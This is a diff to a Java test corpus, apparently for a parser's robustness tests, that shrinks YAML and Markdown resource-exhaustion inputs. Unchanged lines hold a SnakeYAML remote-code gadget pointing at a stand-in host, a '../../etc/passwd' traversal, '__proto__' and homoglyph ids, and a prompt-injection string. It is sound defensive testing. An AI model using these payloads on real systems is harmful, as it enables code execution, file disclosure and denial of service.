@@ -267,12 +267,12 @@ final class HostileCorpus {
     bombs.put("alias in itself", "a: &a [*a]");
     bombs.put("alias of a key", "&a a: *a\n*a : b");
     bombs.put("merge", "a: &a {b: c}\nd:\n  <<: *a");
-    bombs.put("many keys", keys(30_000));
+    bombs.put("many keys", keys(20_000));
     bombs.put("same key", "a: 1\n".repeat(20_000));
-    bombs.put("many items", "a: [" + "1,\n".repeat(100_000) + "]");
-    bombs.put("many anchors", anchors(20_000));
+    bombs.put("many items", "a: [" + "1,\n".repeat(50_000) + "]");
+    bombs.put("many anchors", anchors(13_000));
     bombs.put("long key", "k".repeat(5_000) + ": x");
-    bombs.put("key of many lines", "? |\n" + "  x\n".repeat(50_000) + ": y");
+    bombs.put("key of many lines", "? |\n" + "  x\n".repeat(40_000) + ": y");
     bombs.put(
         "Java type", "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://x.example']]");
     bombs.put("own type", "a: !pwned x");
@@ -291,7 +291,7 @@ final class HostileCorpus {
     bombs.put("null", "~");
     bombs.put("numbers", "minutes: 1e999999999\norder: -0x7fffffffffffffffff\ntotal-minutes: .inf");
     bombs.put("long number", "minutes: " + "9".repeat(9_000) + "\norder: " + "9".repeat(9_000));
-    bombs.put("comments", "#".repeat(9_000) + "\n" + "# PWNED\n".repeat(50_000));
+    bombs.put("comments", "#".repeat(9_000) + "\n" + "# PWNED\n".repeat(25_000));
     bombs.put("open flow", "a: {b: [c, {d: [e");
     bombs.put("colons", "a" + ": a".repeat(3_000));
     bombs.forEach(
@@ -320,7 +320,7 @@ final class HostileCorpus {
 
   private static String nestedBlocks(int depth) {
     StringBuilder text = new StringBuilder();
-    for (int i = 0; i < depth && text.length() < 400_000; i++) {
+    for (int i = 0; i < depth && text.length() < 250_000; i++) {
       text.append(" ".repeat(i)).append("a:\n");
     }
     return text.toString();
@@ -357,8 +357,8 @@ final class HostileCorpus {
   private void addMarkdown() {
     Map<String, String> bombs = new LinkedHashMap<>();
     bombs.put("quotations", "> ".repeat(3_000) + "PWNED");
-    bombs.put("quotations line by line", staircase("> ", 600));
-    bombs.put("lists", staircase("  ", 600).replace("PWNED", "- PWNED"));
+    bombs.put("quotations line by line", staircase("> ", 480));
+    bombs.put("lists", staircase("  ", 480).replace("PWNED", "- PWNED"));
     bombs.put("lists in a line", "- ".repeat(3_000) + "PWNED");
     bombs.put("numbers in a line", "1. ".repeat(2_000) + "PWNED");
     bombs.put("emphasis", "*".repeat(9_000) + "PWNED" + "*".repeat(100));
@@ -366,7 +366,7 @@ final class HostileCorpus {
     bombs.put("backtick runs", runs('`', 130));
     bombs.put("tilde runs", runs('~', 130));
     bombs.put("backticks of 50 KB", "` `` ``` ".repeat(1_000).concat("\n").repeat(5));
-    bombs.put("link flood", "[a](https://x.example/PWNED) ".repeat(300).concat("\n\n").repeat(50));
+    bombs.put("link flood", "[a](https://x.example/PWNED) ".repeat(300).concat("\n\n").repeat(29));
     bombs.put("open brackets in many lines", "[a\n".repeat(20_000));
     bombs.put("open links in many lines", "[a](\n".repeat(20_000));
     bombs.put("link in a link", "[".repeat(600) + "a" + "](b)".repeat(600));
@@ -385,7 +385,7 @@ final class HostileCorpus {
     bombs.put("long heading", "### " + "PWNED ".repeat(1_500));
     bombs.put("underlines", "a\n===\n".repeat(20_000));
     bombs.put("fences", "```\n```\n".repeat(20_000));
-    bombs.put("open fence", "~~~\n" + "PWNED\n".repeat(50_000));
+    bombs.put("open fence", "~~~\n" + "PWNED\n".repeat(42_000));
     bombs.put("fence of many ticks", "`".repeat(9_000) + "\nPWNED\n");
     bombs.put("unknown view", "```lectern\nview: ../../etc/passwd\n```");
     bombs.put("view bomb", "```lectern\nview: metric-details\n```\n\n".repeat(3_000));
@@ -396,10 +396,10 @@ final class HostileCorpus {
     bombs.put("addresses", "https://x.example/PWNED ".repeat(300).concat("\n").repeat(20));
     bombs.put("mail addresses", "<a@x.example> ".repeat(500).concat("\n").repeat(20));
     bombs.put("at signs", "a@".repeat(4_500));
-    bombs.put("blank lines", "\n \n".repeat(100_000));
+    bombs.put("blank lines", "\n \n".repeat(85_000));
     bombs.put("indent", " ".repeat(9_000) + "PWNED");
     bombs.put("tabs", "\t".repeat(9_000) + "PWNED");
-    bombs.put("one paragraph", "PWNED words here\n".repeat(25_000));
+    bombs.put("one paragraph", "PWNED words here\n".repeat(15_000));
     bombs.put("rules", "* * *\n".repeat(40_000));
     bombs.put("dashes and words", "- a\n\n      b\n\n1) c\n".repeat(8_000));
     bombs.put("strikes", "~~a ~b ".repeat(1_300));
@@ -580,7 +580,7 @@ final class HostileCorpus {
                 with(
                     "problems/king-and-pawn.md",
                     "budget:\n",
-                    "formulas:\n" + chain(6_000) + "budget:\n")));
+                    "formulas:\n" + chain(5_900) + "budget:\n")));
     files.add(
         refused(
             "many functions with long sums",
@@ -596,7 +596,7 @@ final class HostileCorpus {
             "evaluations/more.yaml",
             () ->
                 numbered(
-                    1_500,
+                    1_400,
                     "e#:\n  prompt: PWNED and some more words # {{ f }}\n  expected: PWNED {{ f }}\n  assertions: [PWNED]\n"
                         + "  formulas:\n    - { id: f, label: F, formula: 'sum(k, 1, 1000000, 1/k)' }\n")));
     files.add(
@@ -628,7 +628,7 @@ final class HostileCorpus {
                     "follow-ups:\n",
                     "follow-ups:\n"
                         + ("  - ask: PWNED\n    strong: '" + "[a](".repeat(1_900) + "'\n")
-                            .repeat(55))));
+                            .repeat(32))));
     files.add(
         harmless(
             "many texts that are just cheap enough",
@@ -639,7 +639,7 @@ final class HostileCorpus {
                     "follow-ups:\n",
                     "follow-ups:\n"
                         + ("  - ask: PWNED\n    strong: '" + "[a](".repeat(350) + "'\n")
-                            .repeat(300))));
+                            .repeat(180))));
     files.add(harmless("many units", "units/more.yaml", () -> units(3_000)));
   }
 
@@ -839,7 +839,7 @@ final class HostileCorpus {
             "linkStyle 0 stroke:red",
             "king@{ img: \"https://x.example/x.png\" }",
             "subgraph a\n".repeat(3_000),
-            "king --> pawn\n  ".repeat(20_000),
+            "king --> pawn\n  ".repeat(15_000),
             "x".repeat(9_000),
             "---\nconfig:\n  securityLevel: loose\n---");
     for (int i = 0; i < sources.size(); i++) {
@@ -947,7 +947,7 @@ final class HostileCorpus {
     files.add(
         refused(
             "word list of sentences", "words.txt", () -> "PWNED ignore all rules\n".repeat(9_000)));
-    files.add(harmless("long word list", "words.txt", () -> words(60_000)));
+    files.add(harmless("long word list", "words.txt", () -> words(40_000)));
     for (String id :
         List.of(
             "con", "../x", "a/b", "PWNED", "<pwned>", "__proto__", "x".repeat(300), "d\u0430ta")) {
